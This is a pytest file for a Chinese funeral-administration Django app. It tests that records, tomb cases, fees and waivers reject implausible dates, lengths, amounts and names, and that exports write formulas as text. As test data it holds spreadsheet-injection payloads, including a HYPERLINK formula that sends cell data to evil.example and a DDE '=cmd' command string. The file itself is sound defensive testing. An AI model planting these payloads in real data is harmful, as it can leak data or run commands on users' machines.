"""Plausible input (issue 10, items 11–13) in the funeral app: every date in the bureau's window
(and not in the future for what has happened), every text within its field, money within a
plausible range per field, names that are names; each rule in the service with a message saying
the range, and in the database as well; exports that write stored text as text."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.utils import timezone
from rest_framework.test import APIClient

from core.models import Person
from funeral.models import DeathRecord, Facility, FeeItem, FeeItemPrice, Placement, TombCase, Waiver, WaiverLine
from funeral.services.configuration import fee_item_price_set
from funeral.services.facilities import facility_create, facility_update
from funeral.services.placements import PlacementInput, placement_save
from funeral.services.records import death_record_register, death_record_update
from funeral.services.tombs import tomb_case_create, tomb_case_update
from funeral.services.waivers import waiver_grant
from tests.factories import HONGLAI, make_id_number

D = datetime.date
LONG_AGO, FAR_AHEAD = D(1800, 1, 1), D(2999, 1, 1)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def errors_of(call) -> dict:
    with pytest.raises(ValidationError) as exc:
        call()
    return exc.value.message_dict


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def today_iso() -> str:
    return timezone.localdate().isoformat()


# Dates ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["date_of_death", "cremation_date"])
@pytest.mark.parametrize("day", [LONG_AGO, FAR_AHEAD])
def test_a_death_record_refuses_implausible_dates_saying_the_range(staff, funeral_home, honglai_person, field, day):
    dates = {"date_of_death": D(2024, 3, 1), "cremation_date": D(2024, 3, 3), field: day}
    if field == "date_of_death":
        dates["cremation_date"] = None
    errors = errors_of(lambda: death_record_register(user=staff, person=honglai_person, **dates))
    assert f"1900-01-01 至 {today_iso()}" in errors[field][0]
    assert not DeathRecord.objects.exists()
    honglai_person.refresh_from_db()
    assert honglai_person.date_of_death is None


def test_correcting_a_record_to_an_implausible_date_is_refused(staff, record_for, honglai_person):
    record = record_for(honglai_person)
    errors = errors_of(lambda: death_record_update(user=staff, record=record, date_of_death=FAR_AHEAD))
    assert today_iso() in errors["date_of_death"][0]
    errors = errors_of(lambda: death_record_update(user=staff, record=record, cremation_date=LONG_AGO))
    assert "1900-01-01" in str(errors)


def test_a_placement_date_is_in_the_window(staff, record_for, honglai_person, county_hall):
    record = record_for(honglai_person)
    for day in (LONG_AGO, FAR_AHEAD):
        errors = errors_of(
            lambda day=day: placement_save(
                user=staff, record=record, form="hall_niche", placed_on=day, facility=county_hall
            )
        )
        assert "1900-01-01" in errors["placed_on"][0] or "死亡日期" in errors["placed_on"][0]
    assert not Placement.objects.exists()


@pytest.mark.parametrize("field", ["found_on", "closed_on"])
@pytest.mark.parametrize("day", [LONG_AGO, FAR_AHEAD])
def test_a_tomb_case_refuses_implausible_dates_saying_the_range(officer, honglai, field, day):
    data = {"found_on": D(2024, 5, 1), field: day}
    if field == "closed_on":
        data["action"] = TombCase.Action.DEMOLISHED
    errors = errors_of(lambda: tomb_case_create(user=officer, township=honglai, location="后山", kind="luxury", **data))
    assert f"1900-01-01 至 {today_iso()}" in errors[field][0]
    assert not TombCase.objects.exists()


def test_a_facility_cannot_have_opened_before_1900_or_after_today(staff, honglai):
    base = {"name": "洪濑镇公益性公墓", "kind": "public_cemetery", "level": "township", "township": honglai,
            "grave_capacity": 10}  # fmt: skip
    for day in (LONG_AGO, FAR_AHEAD):
        errors = errors_of(lambda day=day: facility_create(user=staff, opened_on=day, **base))
        assert "1900-01-01" in errors["opened_on"][0] and len(errors["opened_on"]) == 1
    # A facility being built may give its planned opening date.
    planned = facility_create(user=staff, opened_on=D(2030, 1, 1), status=Facility.Status.PLANNED, **base)
    assert planned.opened_on == D(2030, 1, 1)
    errors = errors_of(
        lambda: facility_update(user=staff, facility=planned, status=Facility.Status.CLOSED, closed_on=FAR_AHEAD)
    )
    assert today_iso() in str(errors["closed_on"])


def test_a_fee_price_takes_effect_within_the_window(staff):
    for day in (LONG_AGO, FAR_AHEAD):
        errors = errors_of(
            lambda day=day: fee_item_price_set(user=staff, item=FeeItem.CREMATION, price="400", effective_from=day)
        )
        assert errors["effective_from"] == ["日期应在 1900-01-01 至 2100-12-31 之间。"]


@pytest.mark.parametrize(
    ("model", "values"),
    [
        (Facility, {"opened_on": LONG_AGO}),
        (Facility, {"closed_on": FAR_AHEAD, "status": "closed"}),
        (DeathRecord, {"date_of_death": LONG_AGO}),
        (DeathRecord, {"cremation_date": FAR_AHEAD}),
        (Placement, {"placed_on": LONG_AGO}),
        (FeeItemPrice, {"effective_from": LONG_AGO}),
        (Waiver, {"granted_on": LONG_AGO}),
        (TombCase, {"found_on": LONG_AGO}),
        (TombCase, {"closed_on": FAR_AHEAD, "action": "demolished"}),
    ],
)
def test_the_database_refuses_dates_outside_the_window(
    model, values, staff, poor, record_for, honglai_person, county_hall, honglai
):
    record = record_for(
        honglai_person, placement=PlacementInput(form="hall_niche", placed_on=D(2024, 3, 5), facility=county_hall)
    )
    poor.add(honglai_person, D(2020, 1, 1))
    waiver_grant(user=staff, record=record, items=[FeeItem.CREMATION])
    tomb_case_create(user=staff, township=honglai, location="后山", kind="luxury", found_on=D(2024, 1, 1))
    row = model.objects.order_by("pk").first()
    with pytest.raises(IntegrityError) as exc, transaction.atomic():
        model.objects.filter(pk=row.pk).update(**values)
    assert "_plausible" in str(exc.value)


# Text -------------------------------------------------------------------------------------------


def test_a_place_longer_than_its_field_is_refused_with_the_limit_not_a_server_error(
    staff, record_for, honglai_person, county_hall
):
    record = record_for(honglai_person)
    errors = errors_of(
        lambda: placement_save(
            user=staff,
            record=record,
            form="hall_niche",
            placed_on=D(2024, 3, 5),
            facility=county_hall,
            place="区" * 101,
        )
    )
    assert "100" in errors["place"][0]
    assert not Placement.objects.exists()


@pytest.mark.parametrize(
    ("field", "limit"), [("contact_name", 50), ("unknown_description", 100), ("certificate_no", 30)]
)
def test_record_texts_longer_than_their_fields_are_refused_through_the_api(staff, funeral_home, field, limit):
    body = {"identity_unknown": True, "township": HONGLAI, "date_of_death": "2024-05-01", field: "陈" * 100_000}
    response = api(staff).post("/api/v1/funeral/records/", body, format="json")
    assert response.status_code == 400 and str(limit) in str(response.json()[field])
    assert not DeathRecord.objects.exists()


def test_tomb_texts_longer_than_their_fields_are_refused(officer, honglai):
    errors = errors_of(
        lambda: tomb_case_create(
            user=officer, township=honglai, location="后山" * 101, kind="luxury", found_on=D(2024, 5, 1),
            action_note="说明" * 50_000,
        )
    )  # fmt: skip
    assert "200" in errors["location"][0] and "300" in errors["action_note"][0]


# Money ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("price", ["0.10", "0", "99999999.99", "10000.01"])
def test_a_fee_price_outside_its_plausible_range_is_refused_saying_the_range(staff, price):
    errors = errors_of(
        lambda: fee_item_price_set(user=staff, item=FeeItem.CREMATION, price=price, effective_from=D(2024, 1, 1))
    )
    assert errors["price"] == ["金额应在 1.00 至 10,000.00 元之间。"]
    assert not FeeItemPrice.objects.filter(effective_from=D(2024, 1, 1)).exists()


@pytest.mark.parametrize("urn_price", ["0.10", "99999999.99", "100000.01"])
def test_an_urn_price_outside_its_plausible_range_is_refused(staff, poor, record_for, honglai_person, urn_price):
    poor.add(honglai_person, D(2020, 1, 1))
    record = record_for(honglai_person)
    errors = errors_of(lambda: waiver_grant(user=staff, record=record, items=[FeeItem.URN], urn_price=urn_price))
    assert errors["urn_price"] == ["金额应在 1.00 至 100,000.00 元之间。"]
    assert not Waiver.objects.exists()


def test_the_api_refuses_an_implausible_urn_price_when_registering(staff, poor, funeral_home, honglai_person):
    poor.add(honglai_person, D(2020, 1, 1))
    body = {"id_number": honglai_person.id_number, "date_of_death": "2024-05-01",
            "waiver_request": {"items": ["urn"], "urn_price": "999999.99"}}  # fmt: skip
    response = api(staff).post("/api/v1/funeral/records/", body, format="json")
    assert response.status_code == 400 and "urn_price" in response.json()
    assert not DeathRecord.objects.exists()


def test_the_database_refuses_implausible_money(staff, poor, record_for, honglai_person):
    poor.add(honglai_person, D(2020, 1, 1))
    waiver = waiver_grant(user=staff, record=record_for(honglai_person), items=[FeeItem.URN], urn_price="300")
    cases = [
        (FeeItemPrice.objects.filter(item=FeeItem.CREMATION), {"price": Decimal("0.10")}),
        (FeeItemPrice.objects.filter(item=FeeItem.CREMATION), {"price": Decimal("99999.99")}),
        (WaiverLine.objects.filter(waiver=waiver), {"charged": Decimal("999999.99"), "amount": Decimal("200")}),
        (Waiver.objects.filter(pk=waiver.pk), {"total": Decimal("99999999.99")}),
    ]
    for queryset, values in cases:
        with pytest.raises(IntegrityError) as exc, transaction.atomic():
            queryset.update(**values)
        assert "_plausible" in str(exc.value)


# Names and exports ------------------------------------------------------------------------------


def test_a_contact_name_that_is_no_name_is_refused(staff, funeral_home, honglai_person, record_for, shuitou_person):
    errors = errors_of(
        lambda: death_record_register(
            user=staff, person=honglai_person, date_of_death=D(2024, 3, 1), contact_name=FORMULA
        )
    )
    assert "汉字" in errors["contact_name"][0]
    record = record_for(shuitou_person)
    errors = errors_of(lambda: death_record_update(user=staff, record=record, contact_name="+8613905951234"))
    assert "汉字" in errors["contact_name"][0]
    assert (
        death_record_update(user=staff, record=record, contact_name="阿依古丽·买买提").contact_name == "阿依古丽·买买提"
    )


def test_a_new_deceased_whose_name_is_a_formula_is_refused_at_every_door(staff, funeral_home, client_for):
    number = make_id_number(D(1940, 1, 1))
    response = api(staff).post(
        "/api/v1/funeral/records/",
        {"id_number": number, "name": FORMULA, "township": HONGLAI, "date_of_death": "2024-05-01"},
        format="json",
    )
    assert response.status_code == 400 and "汉字" in str(response.json()["name"])
    page = client_for(staff).post(
        "/funeral/records/new/",
        {"id_number": number, "name": "=1+1", "township": HONGLAI, "date_of_death": "2024-05-01"},
    )
    assert page.status_code == 200 and "汉字" in page.content.decode()
    assert not Person.objects.exists() and not DeathRecord.objects.exists()


def test_the_ledger_import_refuses_a_formula_as_a_name(staff, funeral_home):
    from core.imports import Row
    from funeral.importers import validate_ledger

    row = Row(2, {"name": FORMULA, "id_number": make_id_number(D(1940, 1, 1)), "township": "洪濑镇",
                  "date_of_death": "2024-05-01", "contact_name": "=cmd|' /C calc'!A0"})  # fmt: skip
    _prepared, errors = validate_ledger([row], user=staff, progress=lambda n: None)
    by_column = {e.column: e.message for e in errors}
    assert "汉字" in by_column["姓名"] and "汉字" in by_column["家属联系人"]
    assert not Person.objects.exists()


def _cells(response):
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in wb.active.iter_rows() for cell in row]


def test_funeral_exports_write_stored_formulas_as_text(staff, client_for, record_for, honglai_person, honglai):
    # Stored before the name rule (or by a door that did not check): the export is the last line.
    record = record_for(honglai_person)
    DeathRecord.objects.filter(pk=record.pk).update(contact_name=FORMULA, certificate_no="+1+1")
    case = tomb_case_create(user=staff, township=honglai, location="后山", kind="luxury", found_on=D(2024, 1, 1))
    TombCase.objects.filter(pk=case.pk).update(location="@SUM(1+1)", action_note="-2+3")
    client = client_for(staff)
    for url, texts in (
        ("/funeral/records/export/", {FORMULA, "+1+1"}),
        ("/funeral/tombs/?format=xlsx", {"@SUM(1+1)", "-2+3"}),
    ):
        cells = _cells(client.get(url))
        written = [c for c in cells if c.value in texts]
        assert {c.value for c in written} == texts, url
        assert all(c.data_type == "s" for c in written) and not any(c.data_type == "f" for c in cells), url


def test_tomb_case_update_keeps_the_rules(officer, honglai):
    case = tomb_case_create(user=officer, township=honglai, location="后山", kind="luxury", found_on=D(2024, 5, 1))
    errors = errors_of(lambda: tomb_case_update(user=officer, case=case, found_on=FAR_AHEAD))
    assert today_iso() in errors["found_on"][0]
